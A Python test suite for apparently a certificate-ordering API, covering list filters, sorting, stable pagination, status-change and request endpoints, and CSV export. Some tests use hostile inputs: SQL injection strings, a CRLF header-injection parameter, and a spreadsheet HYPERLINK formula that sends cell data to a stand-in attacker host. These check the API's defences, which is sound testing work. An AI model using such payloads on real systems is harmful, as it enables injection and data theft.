"""Many orders at once: filters, sorting, pages that hold together, CSV; requests likewise."""
import csv
import io
import json
import urllib.parse

from harness import case, golden
from harness.account import Account
from harness.tests import Tests

tests = Tests()
LIST = "/order/certificate"
LOOSE = ("name", "first_name", "firstname", "email", "common_name", "dns_names", "how_to_fix")
LOW = 400000  # ids that no gateway gives out any more


def query(path=LIST, **members):
    """status="issued" is filters[status]=issued; limit, offset and sort stay what they are; of a
    list, filters[status][0]=..&filters[status][1]=.."""
    pairs = []
    for name, value in members.items():
        if name in ("limit", "offset", "sort", "minutes", "seconds"):
            pairs.append((name, value))
        elif isinstance(value, list):
            pairs += [(f"filters[{name}][{i}]", v) for i, v in enumerate(value)]
        else:
            pairs.append((f"filters[{name}]", value))
    return path + ("?" + urllib.parse.urlencode(pairs) if pairs else "")


def listed(client, path=LIST, key="orders", **members):
    answer = client.get(query(path, **members))
    case.equal(f"{query(path, **members)}: {answer}", answer.status, 200)
    page = answer.json["page"]
    case.equal("offset", page["offset"], int(members.get("offset", 0)))
    return [row["id"] for row in answer.json[key]], page["total"]


def refused(client, path, field, code="invalid_field"):
    answer = client.get(path)
    case.equal(f"{path}: {answer}", (answer.status, answer.error.get("code"), answer.error.get("field")),
               (400, code, field))


class Shop:
    """An account with orders of every kind."""

    def __init__(self, stack):
        self.account = a = Account(stack, "shop")
        self.client = a.client
        name = self.name = f"shop{a.number}.example.com"
        self.first = a.prove("example.com")["id"]
        self.issued = a.place("a." + name, certificate={"dns_names": ["b." + name]}, certificate_dcv_scope="base_domain",
                              alternative_order_id="po-1", order_validity={"years": 2})
        self.pending = a.place("pending.example.net", disable_renewal_notifications=True,
                               alternative_order_id="PO 2.x_y", additional_emails=["Extra@Example.org"])
        self.canceled = a.place("canceled.example.net", alternative_order_id="po-1")
        case.equal("canceled", a.client.put(f"{LIST}/{self.canceled['id']}/status", {"status": "CANCELED"}).status, 204)
        self.waiting = a.order("waiting.example.net", a.as_role(2), comments='two "quoted", words').json
        self.all = [self.first, self.issued["id"], self.pending["id"], self.canceled["id"], self.waiting["id"]]
        self.certificate = a.info(self.issued["id"])["certificate"]

    def ids(self, **members):
        found, total = listed(self.client, **members)
        case.equal(f"total of {members}", total, len(found))
        return [self.all.index(i) for i in found]


@tests
def filters(stack):
    shop = Shop(stack)
    other = Account(stack)
    other.place("pending.example.net", alternative_order_id="po-1")
    certificate = shop.certificate
    stack.db.run(f"INSERT INTO order_renewal (account_id, renewed_order_id, created_at) VALUES ({shop.account.id}, {shop.all[3]}, :now)")
    # The shorter order ends sooner on days when certificates may last longer than it.
    alike = [i for i in (0, 1) if shop.account.info(shop.all[i])["certificate"]["valid_till"] == certificate["valid_till"]]
    since = [i for i, o in enumerate(shop.client.get(LIST).json["orders"]) if o["date_created"] >= certificate["date_created"]]
    for members, wanted in [
            ({}, [0, 1, 2, 3, 4]),
            ({"id": shop.all[1]}, [1]), ({"id": [shop.all[1], shop.all[3]]}, [1, 3]),
            ({"id": f">{shop.all[1]}"}, [2, 3, 4]), ({"id": f"<{shop.all[1]}"}, [0]),
            ({"id": f"{shop.all[1]}...{shop.all[2]}"}, [1, 2]), ({"id": "1"}, []),
            ({"status": "issued"}, [0, 1]), ({"status": "pending"}, [2]), ({"status": "canceled"}, [3]),
            ({"status": "needs_approval"}, [4]), ({"status": ["issued", "pending"]}, [0, 1, 2]),
            ({"status": ["pending", "canceled"]}, [2, 3]), ({"status": "ISSUED"}, [0, 1]),
            ({"status": "revoked"}, []), ({"status": "issued", "common_name": "a." + shop.name}, [1]),
            ({"product_name_id": shop.account.info(shop.first)["product_name_id"]}, [0, 1, 2, 3, 4]), ({"product_name_id": "ssl_ev_none"}, []),
            ({"product_type": "dv_ssl_certificate"}, [0, 1, 2, 3, 4]), ({"product_type": "client_certificate"}, []),
            ({"user_id": shop.account.user_id}, [0, 1, 2, 3]), ({"user_id": other.user_id}, []),
            ({"common_name": "a." + shop.name}, [1]), ({"common_name": "A." + shop.name.upper()}, [1]),
            ({"common_name": "b." + shop.name}, []), ({"common_name": "%.example.net"}, [2, 3, 4]),
            ({"common_name": "example.net"}, []), ({"common_name": "%_"}, []),
            ({"domain_name": "b." + shop.name}, [1]), ({"domain_name": "%b." + shop.name}, [1]),
            ({"domain_name": "%" + shop.name}, [1]), ({"domain_name": ["b." + shop.name, "pending.example.net"]}, [1, 2]),
            ({"valid_till": certificate["valid_till"]}, alike), ({"valid_till": ">2020-01-01"}, [0, 1]),
            ({"valid_till": "<2020-01-01"}, []), ({"valid_till": f"2020-01-01...{certificate['valid_till']}"}, [0, 1]),
            ({"date_created": ">2020-01-01"}, [0, 1, 2, 3, 4]), ({"date_created": "<2020-01-01"}, []),
            ({"date_created": [">2020-01-01", "<2020-02-01"]}, []),
            ({"date_created": certificate["date_created"][:10]}, [0, 1, 2, 3, 4]),
            ({"date_created": certificate["date_created"][:19].replace("T", "+") + "...9999-12-31"}, since),
            ({"date_created": ">2020-1-1"}, [0, 1, 2, 3, 4]), ({"date_created": "2020-1-1+2:0:41...2020-2-1+3:0:41"}, []),
            ({"date_created": "2020-1-1+2:0:41...9999-12-1"}, [0, 1, 2, 3, 4]), ({"valid_till": "<2020-1-1"}, []),
            ({"disable_renewal_notifications": "1"}, [2]), ({"disable_renewal_notifications": "0"}, [0, 1, 3, 4]),
            ({"email": "extra@example.org"}, [2]), ({"email": "%@example.ORG"}, [2]), ({"email": "%shop"}, [0, 1, 2, 3]),
            ({"certificate_id": certificate["id"]}, [1]), ({"certificate_id": "5"}, []),
            ({"serial_number": certificate["serial_number"]}, [1]),
            ({"serial_number": ":".join(certificate["serial_number"][i:i + 2] for i in range(0, len(certificate["serial_number"]), 2))}, [1]),
            ({"serial_number": "00ff"}, []),
            ({"origin": "certcentral"}, [0, 1, 2, 3, 4]), ({"origin": "migrated"}, []),
            ({"is_renewed": "0"}, [0, 1, 2, 4]), ({"is_renewed": "1"}, [3]),
            ({"organization_id": "12"}, []), ({"metadata_id": "12"}, []),
            ({"search": "b." + shop.name}, [1]), ({"search": str(shop.all[3])}, [3]), ({"search": "po-1"}, [1, 3]),
            ({"search": "%xamp"}, [0, 1, 2, 3, 4]), ({"search": "%po 2"}, [2]), ({"search": "nothing"}, []),
            ({"unheard_of": "x"}, [0, 1, 2, 3, 4]), ({"search": ""}, [0, 1, 2, 3, 4]),
    ]:
        case.equal(f"orders with {members}", shop.ids(**members), wanted)
    container = shop.account.info(shop.first)["container"]["id"]
    case.equal("container", shop.ids(container_id=str(container)), [0, 1, 2, 3, 4])
    case.equal("another's container", shop.ids(container_id=str(other.info(listed(other.client)[0][0])["container"]["id"])), [])
    # Whatever stands in a value is a value.
    for nasty in ("' OR '1'='1", "%' OR true --", "x\ny --? status", "$1", ":account_id", "%%"):
        case.equal(f"common name {nasty}", shop.ids(common_name=nasty), [])


@tests
def sorting_and_slash(stack):
    shop = Shop(stack)
    issued, rest = [0, 1], [2, 3, 4]
    case.equal("by id", shop.ids(sort="id"), [0, 1, 2, 3, 4])
    case.equal("by id, descending", shop.ids(sort="-id"), [4, 3, 2, 1, 0])
    case.equal("by date", shop.ids(sort="-date_created"), [4, 3, 2, 1, 0])
    case.equal("by status, then date", shop.ids(sort="status,-date_created"), [3, 1, 0, 4, 2])
    case.equal("in the order said", shop.ids(sort="-status,date_created"), [2, 4, 0, 1, 3])
    case.equal("common name", shop.ids(sort="-common_name"), [4, 2, 0, 3, 1])
    case.equal("no end comes last", shop.ids(sort="-valid_till,id")[2:], rest)
    case.equal("nor first", sorted(shop.ids(sort="valid_till")[:2]), issued)
    for sort, wanted in (("order_id", [0, 1, 2, 3, 4]), ("-order_id", [4, 3, 2, 1, 0]), ("+id", [0, 1, 2, 3, 4]),
                         ("+status,-id", [3, 1, 0, 4, 2]), ("-status,+date_created", [2, 4, 0, 1, 3])):
        case.equal(f"by {sort}", shop.ids(sort=sort), wanted)  # "%2B"
        case.equal(f"by {sort}, as it is", [shop.all.index(o["id"]) for o in shop.client.get(f"{LIST}?sort={sort}").json["orders"]], wanted)
    case.equal("filter and sort of one name", shop.ids(sort="-status", status="issued"), [0, 1])
    for sort, limit in (("product_name_id", 2), ("-user_id", 1), ("container_id", 3), ("order_valid_till", 2)):
        rows = []
        while len(rows) < 5:
            part, total = listed(shop.client, sort=sort, limit=limit, offset=len(rows))
            case.true(f"a page by {sort}", part and total == 5)
            rows += part
        case.equal(f"by {sort}", sorted(rows), sorted(shop.all))
    answer = shop.client.get("/order/certificate/?limit=2")
    case.equal(f"with a slash: {answer}", len(answer.json["orders"]), 2)
    case.equal("one", shop.client.get("/order/certificate/?filters%5Bstatus%5D=pending&limit=7").json["page"],
               {"total": 1, "limit": 7, "offset": 0})


@tests
def bad_questions(stack):
    client = Account(stack).client
    for members, field in [
            ({"id": "x"}, "filters.id"), ({"id": "7 OR 1=1"}, "filters.id"), ({"id": "-4"}, "filters.id"),
            ({"id": ">"}, "filters.id"), ({"id": "4...x"}, "filters.id"), ({"id": ["1", "x"]}, "filters.id"),
            ({"id": "99999999999999999999"}, "filters.id"), ({"id": [">1", ">2"]}, "filters.id"),
            ({"status": "open"}, "filters.status"), ({"user_id": ">4"}, "filters.user_id"),
            ({"valid_till": "tomorrow"}, "filters.valid_till"), ({"date_created": "2024-02-30"}, "filters.date_created"),
            ({"date_created": "2024-01-01..."}, "filters.date_created"),
            ({"date_created": ["2024-01-01", "2024-02-01"]}, "filters.date_created"),
            ({"is_renewed": "maybe"}, "filters.is_renewed"), ({"disable_renewal_notifications": "2"}, "filters.disable_renewal_notifications"),
            ({"origin": "elsewhere"}, "filters.origin"), ({"serial_number": "xyz"}, "filters.serial_number"),
            ({"product_name_id": "%ssl"}, "filters.product_name_id"), ({"organization_id": "acme"}, "filters.organization_id"),
            ({"sort": "id,id"}, "sort"), ({"sort": "id,-id"}, "sort"),
            ({"offset": "-1"}, "offset"), ({"limit": "-1"}, "limit"), ({"limit": "many"}, "limit")]:
        refused(client, query(**members), field)
    case.equal("at most a thousand", client.get(query(limit="5000")).json["page"]["limit"], 1000)
    refused(client, "/request?status=open", "filters.status")
    changes = "/order/certificate/status-changes"
    refused(client, changes, "minutes", "missing_field")
    refused(client, changes + "?minutes=10081", "minutes", "time_frame_too_long")
    refused(client, changes + "?minutes=10080&seconds=1", "minutes", "time_frame_too_long")
    refused(client, changes + "?seconds=604801", "seconds", "time_frame_too_long")
    refused(client, changes + "?minutes=-5", "minutes")
    refused(client, query(changes, status_last_updated="2024-01-01...2024-01-20"), "filters.status_last_updated", "time_frame_too_long")
    refused(client, query(changes, status_last_updated="yesterday"), "filters.status_last_updated")
    refused(client, query(changes, status_last_updated=">2024-01-01"), "filters.status_last_updated")


IGNORED = "ignored-parameters"
STRICT = {"Prefer": "handling=strict"}


@tests
def unknown_words_are_named(stack):
    shop = Shop(stack)
    client = shop.client
    for path, named in [
            ("?limit=2&sort=-id&filters[status]=issued", None), ("?filters[status]=", None),
            ("?filters[statuss]=issued", "filters[statuss] (status?)"),
            ("?filters%5Bstatuss%5D%5B0%5D=issued", "filters[statuss][0] (status?)"),
            ("?filter[status]=issued", "filter[status] (filters[status]?)"), ("?status=issued", "status (filters[status]?)"),
            ("?limt=1&sort=statuss,-colour", "limt (limit?), sort=statuss (status?), sort=colour"),
            ("?account_id=1", "account_id"), ("?a%0d%0aX-Evil:%201=1", "a%0D%0AX-Evil:%201")]:
        answer = client.get(LIST + path)
        case.equal(f"{path}: {answer}", (answer.status, answer.headers.get(IGNORED)), (200, named))
        case.equal(f"all of {path}", len(answer.json["orders"]), 5 if named else answer.json["page"]["total"])
        answer = client.call("GET", LIST + path, headers=STRICT)
        case.equal(f"strict {path}: {answer}", (answer.status, answer.headers.get(IGNORED), answer.headers.get("preference-applied")),
                   (400 if named else 200, None, "handling=strict"))
    for path, field, message in [
            ("?filters[statuss]=issued", "filters.statuss", "filters.statuss is not known here, which takes id, status, organization_id, "),
            ("?limt=1", "limt", "limt is not known here, which takes filters[...], sort, offset, limit"),
            ("?sort=statuss", "sort", "sort is not known here, which takes id, order_id, status, common_name, ")]:
        answer = client.call("GET", LIST + path, headers=STRICT)
        case.equal(f"{path}: {answer}", (answer.error["code"], answer.error["field"]), ("invalid_field", field))
        case.inside(f"what {path} takes", message, answer.error["message"])
    info = f"{LIST}/{shop.first}?include_price=true"
    case.equal("of one order", client.get(info).headers.get(IGNORED), "include_price")


def identity(row):
    return next(row[name] for name in ("id", "order_id", "name_id", "pem") if name in row)


def lists_of(shop):
    """Every address that takes a key to sort by, and the name of its items."""
    account = shop.client.get("/account").json
    ids = {"container_id": account["root_container_id"], "webhook_id": shop.account.webhook("/lists"), "alternative_order_id": "po-1"}
    shop.client.post(f"/container/{account['root_container_id']}/children", {"name": "Zoo"})
    shop.client.post(f"/container/{account['root_container_id']}/children", {"name": "Attic"})
    shop.client.post("/user", {"username": f"zz{shop.account.number}@example.com", "first_name": "Ada", "last_name": "Love",
                                "email": "a@example.com", "access_roles": [{"id": 5}]})
    document = shop.client.get("/openapi.json").json
    for path, item in document["paths"].items():
        operation = item.get("get", {})
        answer = operation.get("responses", {}).get("200", {}).get("content", {}).get("application/json", {}).get("schema", {})
        members = document["components"]["schemas"].get(answer.get("$ref", "").rpartition("/")[2], {}).get("properties", {})
        names = [p["name"] for p in operation.get("parameters", []) if "name" in p]
        case.true(f"{path} has pages and sorts", "page" not in members or "sort" in names)
        if "sort" in names:
            window = "?minutes=60&" if path.endswith("status-changes") else "?"
            yield path.removeprefix("/services/v2").format(**ids) + window, next((m for m in members if m != "page"), None)


@tests
def every_list_sorts(stack):
    """By every key that it says it has, up and down; what an item shows by that name is in order."""
    shop = Shop(stack)
    lists = list(lists_of(shop))
    case.true(f"lists: {lists}", len(lists) >= 13)
    for path, key in lists:
        answer = shop.client.get(path + "sort=colour")
        case.equal(f"{path}: {answer}", (answer.status, answer.headers.get(IGNORED)), (200, "sort=colour"))
        key = key or next(k for k in answer.json if k != "page")
        everything = answer.json[key]
        answer = shop.client.call("GET", path + "sort=colour", headers=STRICT)
        case.equal(f"strict {path}: {answer}", (answer.status, answer.error["field"]), (400, "sort"))
        for name in answer.error["message"].rpartition(" takes ")[2].split(", "):
            for sign in ("", "-", "+", "%2B"):
                answer = shop.client.get(f"{path}sort={sign}{name}")
                case.equal(f"{path} by {sign}{name}: {answer}", (answer.status, answer.headers.get(IGNORED)), (200, None))
                rows = answer.json[key]
                case.equal(f"the same items by {name}", sorted(map(identity, rows)), sorted(map(identity, everything)))
                values = [row[name] for row in rows if isinstance(row.get(name), (int, str))]
                case.equal(f"absent is last by {sign}{name}", [row[name] for row in rows[:len(values)]] if values else [], values)
                if values and not isinstance(values[0], str):
                    case.equal(f"{path} by {sign}{name}", values, sorted(values, reverse=sign == "-"))
                elif name in ("id", "date", "date_created", "create_date", "username", "status"):
                    case.equal(f"{path} by {sign}{name}", values, sorted(values, reverse=sign == "-"))


# ---- pages

def place_by_sql(stack, account, count, status="pending", age="0 s", first=None):
    """Orders as C1 writes them, without their domains having been looked at."""
    model = stack.db.number(f"SELECT min(id) FROM orders WHERE account_id = {account.id}")
    start = first or stack.db.number("SELECT nextval('order_block')") * 100000
    stack.db.run(f"""
        INSERT INTO orders SELECT (jsonb_populate_record(o, jsonb_build_object('id', {start} + n, 'status', '{status}',
                                   'request_id', {start} + n, 'certificate_id', coalesce(o.certificate_id, 0),
                                   'created_at', o.created_at - interval '{age}' + n * interval '1 ms',
                                   'status_at', o.created_at - interval '{age}' + n * interval '1 ms',
                                   'xid', pg_current_xact_id()))).*
          FROM orders o, generate_series(1, {count}) n WHERE o.id = {model};
        INSERT INTO request_name SELECT {start} + n, 0, m.account_id, m.kind, m.name, m.name
          FROM request_name m JOIN orders o ON o.request_id = m.request_id, generate_series(1, {count}) n
         WHERE o.id = {model} AND m.position = 0;
        INSERT INTO request SELECT (jsonb_populate_record(r, jsonb_build_object('id', {start} + n, 'order_id', {start} + n))).*
          FROM request r JOIN orders o ON o.request_id = r.id, generate_series(1, {count}) n WHERE o.id = {model}""")
    return [start + n for n in range(1, count + 1)]


def walk(client, between, limit=13, by_rows=False, path=LIST, key="orders", **members):
    """All ids that a client sees that asks until it has page.total of the first page."""
    seen, offset, total = [], 0, None
    while total is None or offset < total:
        rows, now = listed(client, path, key, limit=limit, offset=offset, **members)
        total = now if total is None else total
        case.equal("the total stays", now, total)
        case.true(f"rows at {offset} of {total}", rows or not by_rows)
        seen += rows
        offset += len(rows) if by_rows else limit
        between(len(seen))
    return seen


@tests
def pages_while_orders_arrive(stack):
    account = Account(stack, "walker")
    account.place("walk.example.net")
    place_by_sql(stack, account, 40)
    there, total = listed(account.client)
    case.equal("orders", (len(there), total), (41, 41))

    def more(_):
        account.place("walk.example.net", headers={"Idempotency-Key": str(more)})  # the same order again
        place_by_sql(stack, account, 3)
        # One with a low id and an early date, as of a gateway that still had a block and a slow commit.
        place_by_sql(stack, account, 1, age="2 s", first=LOW + more.count)
        more.count += 1
    more.count = 0
    for by_rows in (False, True):
        there, total = listed(account.client, limit=1000)
        seen = walk(account.client, more, by_rows=by_rows)
        case.equal("each once", sorted(seen), sorted(there))
        case.equal("and how many", len(seen), total)
    there = listed(account.client, limit=1000)[0]
    case.equal("sorted otherwise", sorted(walk(account.client, more, sort="-id")), sorted(there))
    there = listed(account.client, "/request", "requests", limit=1000)[0]
    case.equal("requests", sorted(walk(account.client, more, path="/request", key="requests")), sorted(there))
    arrived = listed(account.client, limit=1000)[1]
    case.true(f"orders did arrive: {arrived}", arrived > 100)


@tests
def pages_while_orders_change(stack):
    """An order that leaves the filter pushes nobody out of the next page."""
    account = Account(stack, "changer")
    account.place("change.example.net")
    place_by_sql(stack, account, 30)
    there = listed(account.client, status="pending")[0]

    def cancel(count):
        if count < len(there):
            account.client.put(f"{LIST}/{there[count - 5]}/status", {"status": "canceled"})
    case.equal("each once", walk(account.client, cancel, status="pending"), there)
    case.true("some have left", len(listed(account.client, status="pending")[0]) < 31)


@tests
def pages_without_redis(stack):
    account = Account(stack, "nocache")
    account.place("nocache.example.net")
    place_by_sql(stack, account, 20)
    there = listed(account.client)[0]
    stack.kill("redis")
    try:
        seen = []
        while len(seen) < listed(account.client, limit=1)[1]:
            seen += listed(account.client, limit=4, offset=len(seen))[0]
        case.equal("each once", seen, there)
    finally:
        stack.start("redis")


def tally_of(stack, account):
    return stack.db.number(f"SELECT coalesce(sum(total), 0) FROM order_tally WHERE account_id = {account.id}")


@tests
def counted_by_the_scheduler(stack):
    """Beyond the mark nothing is counted again, and nothing is lost either."""
    account = Account(stack, "tally")
    account.prove("example.com")
    place_by_sql(stack, account, 30, "issued", age="2 h")
    place_by_sql(stack, account, 5, "canceled", age="3 h")
    place_by_sql(stack, account, 4, "pending", age="4 h")
    place_by_sql(stack, account, 3, "expired", age="5 h")
    place_by_sql(stack, account, 2, "issued")
    asked = [{}] + [{"status": s} for s in ("issued", "canceled", "pending", "expired", "revoked", ["pending", "issued"])]
    before = [listed(account.client, **members) for members in asked]
    case.equal("totals", [total for _, total in before], [45, 36, 5, 4, 3, 0, 40])
    stack.db.run("UPDATE job SET run_at = run_at - interval '1 hour' WHERE lane = 'tally'")
    case.until("the old ones are counted", lambda: tally_of(stack, account) == 42)
    after = [listed(account.client, **members) for members in asked]
    case.equal("the same answers", after, before)

    # What leaves its status behind the mark.
    old = stack.db.rows(f"SELECT id, status FROM orders WHERE account_id = {account.id} AND created_at < "
                        f"(SELECT until_at FROM order_tally WHERE account_id = {account.id}) ORDER BY id")
    issued = [r["id"] for r in old if r["status"] == "issued"]
    pending = [r["id"] for r in old if r["status"] == "pending"]
    stack.db.run(f"UPDATE orders SET status = 'canceled', status_at = '{stack_now(stack)}' WHERE id = {issued[0]};"
                 f"UPDATE orders SET status = 'issued', certificate_id = 0, status_at = '{stack_now(stack)}' WHERE id = {pending[0]}")
    case.equal("totals", [listed(account.client, **m)[1] for m in asked], [45, 36, 6, 3, 3, 0, 39])
    case.inside("canceled", issued[0], listed(account.client, status="canceled")[0])
    case.equal("pending", listed(account.client, status="pending")[0], sorted_by_date(stack, pending[1:]))
    changed = {o["order_id"]: o["status"] for o in account.client.get("/order/certificate/status-changes?minutes=30").json["orders"]}
    for order, status in ((issued[0], "canceled"), (pending[0], "issued")):
        case.equal(f"change of {order}", changed.get(order), status)
    case.true("not those of hours ago", issued[2] not in changed)
    stack.db.run("UPDATE job SET run_at = run_at - interval '1 hour' WHERE lane = 'tally'")
    case.until("it is looked at again", lambda: stack.db.value(
        f"SELECT state FROM order_apart WHERE order_id = {pending[0]}") == "issued")
    case.equal("totals", [listed(account.client, **m)[1] for m in asked], [45, 36, 6, 3, 3, 0, 39])
    # Nobody would ever look at these, which have come in no program's way.
    stack.db.run(f"UPDATE orders SET status = 'canceled', status_at = '{stack_now(stack)}' "
                 f"WHERE account_id = {account.id} AND status = 'pending'")


def stack_now(stack):
    return stack.db.value("SELECT :now")


def sorted_by_date(stack, ids):
    listed_ids = ",".join(map(str, ids))
    return [r["id"] for r in stack.db.rows(f"SELECT id FROM orders WHERE id IN ({listed_ids}) ORDER BY created_at, id")]


# ---- other lists

@tests
def status_changes(stack):
    shop = Shop(stack)
    path = "/order/certificate/status-changes"
    answer = shop.client.get(path + "?minutes=10")
    golden.check("GET order/certificate/status-changes", answer, LOOSE)
    found = {o["order_id"]: (o["status"], o.get("certificate_id")) for o in answer.json["orders"]}
    case.equal("orders", found, {
        shop.first: ("issued", shop.account.info(shop.first)["certificate"]["id"]),
        shop.issued["id"]: ("issued", shop.issued["certificate_id"]), shop.pending["id"]: ("pending", None),
        shop.canceled["id"]: ("canceled", None), shop.waiting["id"]: ("needs_approval", None)})
    rows = [shop.client.get(f"{path}?seconds=600&limit=2&offset={n}").json for n in (0, 2, 4)]
    case.equal("pages", sorted(o["order_id"] for r in rows for o in r["orders"]), sorted(shop.all))
    case.equal("page", rows[1]["page"], {"total": 5, "limit": 2, "offset": 2})
    golden.check("GET order/certificate/status-changes nothing found",
                 shop.client.get(query(path, status_last_updated="2020-01-01...2020-01-02")))
    stranger = Account(stack).client.get(path + "?minutes=10080")
    case.equal(f"a stranger: {stranger}", (stranger.status, stranger.json), (200, {}))
    # Mountain Daylight Time, six hours behind.
    day = stack.db.value("SELECT to_char(:now AT TIME ZONE 'UTC' - interval '6 h', 'YYYY-MM-DD')")
    named = shop.client.get(query(path, status_last_updated=f"{day}...{day}+23:59:59")).json
    case.equal("named window", len(named["orders"]), 5)
    bare = "-".join(str(int(place)) for place in day.split("-"))
    named = shop.client.get(f"{path}?filters[status_last_updated]={bare}+0:0:0...{bare}+23:59:59").json
    case.equal("without leading zeros", len(named["orders"]), 5)


@tests
def alternative_ids(stack):
    shop = Shop(stack)
    answer = shop.client.get("/order/alternate/po-1")
    golden.check("GET order/alternate/{alternative_order_id}", answer, LOOSE)
    case.equal("orders", [o["order_id"] for o in answer.json["orders"]], [shop.issued["id"], shop.canceled["id"]])
    case.equal("its certificate", [o.get("certificate_id") for o in answer.json["orders"]], [shop.issued["certificate_id"], None])
    case.equal("percent-encoded", shop.client.get("/order/alternate/PO%202.x_y").json["orders"][0]["order_id"], shop.pending["id"])
    second = shop.client.get("/order/alternate/po-1?limit=1&offset=1").json
    case.equal("second page", ([o["order_id"] for o in second["orders"]], second["page"]),
               ([shop.canceled["id"]], {"total": 2, "limit": 1, "offset": 1}))
    case.equal("beyond", shop.client.get("/order/alternate/po-1?offset=9").json, {"orders": [], "page": {"total": 2, "limit": 1000, "offset": 9}})
    for client, path in ((shop.client, "/order/alternate/unknown"), (Account(stack).client, "/order/alternate/po-1")):
        answer = client.get(path)
        case.equal(f"{path}: {answer}", (answer.status, answer.error["code"]), (404, "not_found|order"))


@tests
def requests(stack):
    shop = Shop(stack)
    stranger = Account(stack)
    everything = listed(shop.client, "/request", "requests")[0]
    case.equal("requests", len(everything), 5)
    pending = shop.client.get("/request?status=pending")
    golden.check("GET request", pending, LOOSE)
    case.equal("of", [r["order"]["id"] for r in pending.json["requests"]], [shop.waiting["id"]])
    case.equal("by filter", shop.client.get(query("/request", status="pending")).json, pending.json)
    case.equal("two", len(listed(shop.client, "/request", "requests", status=["pending", "approved"])[0]), 5)
    case.equal("approved", len(listed(shop.client, "/request", "requests", status="approved")[0]), 4)
    case.equal("rejected", listed(shop.client, "/request", "requests", status="rejected"), ([], 0))
    case.equal("a stranger", listed(stranger.client, "/request", "requests"), ([], 0))
    number = pending.json["requests"][0]["id"]
    golden.check("GET request/{request_id} pending", shop.client.get(f"/request/{number}"), LOOSE)
    case.equal("approve", shop.client.put(f"/request/{number}/status", {"status": "approved", "processor_comment": "fine"}).status, 204)
    shop.account.looked(shop.waiting["id"])
    answer = shop.client.get(f"/request/{number}")
    case.equal("who", (answer.json["processor"]["id"], answer.json["processor_comment"]), (shop.account.user_id, "fine"))
    shown, wanted = answer.json["order"], shop.account.info(shop.waiting["id"])
    for order in (shown, wanted):  # polling goes on between the two
        case.true("it waits for its domain", [b.pop("next_check", 0) for b in order["blockers"]])
    case.equal("order", shown, wanted)
    for blocker in answer.json["order"]["blockers"]:
        case.equal("what is left to do", blocker["kind"], "dcv")
    first = min(everything)
    golden.check("GET request/{request_id} approved", shop.client.get(f"/request/{first}"), LOOSE)
    case.equal("none pending", listed(shop.client, "/request", "requests", status="pending"), ([], 0))
    for client, path in ((stranger.client, f"/request/{number}"), (shop.client, "/request/1"), (shop.client, "/request/x")):
        case.equal(path, client.get(path).status, 404)


def table_of(answer):
    case.equal(f"CSV: {answer}", (answer.status, answer.headers["content-type"]), (200, "text/csv; charset=utf-8"))
    text = answer.body.decode()
    case.true("every line ends as RFC 4180 says", text.endswith("\r\n") and "\n" not in text.replace("\r\n", ""))
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def flat(row, before=""):
    out = {}
    for key, value in row.items():
        if isinstance(value, dict):
            out.update(flat(value, before + key + "."))
        else:
            words = value if isinstance(value, list) else [value]
            out[before + key] = " ".join(json.dumps(w) if isinstance(w, bool) else str(w) for w in words)
    return out


@tests
def as_csv(stack):
    shop = Shop(stack)
    ask = lambda path, accept: shop.client.call("GET", path, headers={"Accept": accept})  # noqa: E731
    for path, key in ((LIST, "orders"), ("/request", "requests")):
        answer = ask(path, "text/csv")
        golden.check(f"GET {path[1:]} CSV", answer, LOOSE)
        rows, wanted = table_of(answer), shop.client.get(path).json[key]
        case.equal("rows", [{k: v for k, v in r.items() if v != ""} for r in rows], [{k: v for k, v in flat(w).items() if v != ""} for w in wanted])
    quoted = 'Ann "the key", Lee'
    stack.db.run(f"UPDATE user_account SET last_name = '{quoted}', first_name = E'two\\nlines' WHERE account_id = {shop.account.id}")
    first = ask("/request", "text/csv").body.decode()
    case.inside("quotes are doubled", '"Ann ""the key"", Lee"', first)
    rows = list(csv.DictReader(io.StringIO(first, newline=""), strict=True))
    case.equal("and read back", (rows[0]["requester.last_name"], rows[0]["requester.first_name"]), (quoted, "two\nlines"))
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    stack.db.run(f"UPDATE user_account SET last_name = '{formula}', first_name = '+1' WHERE account_id = {shop.account.id}")
    rows = table_of(ask("/request", "text/csv"))
    case.equal("no formula", (rows[0]["requester.last_name"], rows[0]["requester.first_name"]), ("'" + formula, "'+1"))
    case.equal("as JSON", shop.client.get("/request").json["requests"][0]["requester"]["last_name"], formula)
    for answer in (ask("/request", "text/csv"), ask(LIST, "*/*"), shop.client.get("/nowhere"), stack.client("x").get(LIST)):
        case.equal(f"of one type: {answer}", answer.headers.get("x-content-type-options"), "nosniff")
    case.equal("filters count", [r["id"] for r in table_of(ask(query(status="pending"), "text/csv"))], [str(shop.pending["id"])])
    case.equal("nothing but names", table_of(ask(query(status="revoked"), "text/csv")), [])
    for accept, kind in (("*/*", "json"), ("application/json", "json"), ("text/csv;q=0", "json"), ("text/csv;q=0.1, application/json", "json"),
                         ("TEXT/CSV; q=0.9, */*;q=0.8", "csv"), ("text/html, text/csv", "csv"), ("text/csvx", "json"), (";,q=,", "json")):
        case.inside(f"Accept: {accept}", kind, ask(LIST, accept).headers["content-type"])
    case.equal("errors are JSON", ask(query(id="x"), "text/csv").headers["content-type"], "application/json")


@tests
def answers_as_documented(stack):
    shop = Shop(stack)
    golden.check("GET order/certificate", shop.client.get(LIST), LOOSE)
    golden.check("GET order/certificate empty", Account(stack).client.get(LIST), LOOSE)
    golden.check("GET order/certificate bad filter", shop.client.get(query(date_created="soon")), LOOSE)
    viewer = shop.account.as_role(4, 103)  # a key for users only
    case.equal("a key without the right", viewer.get(LIST).status, 403)
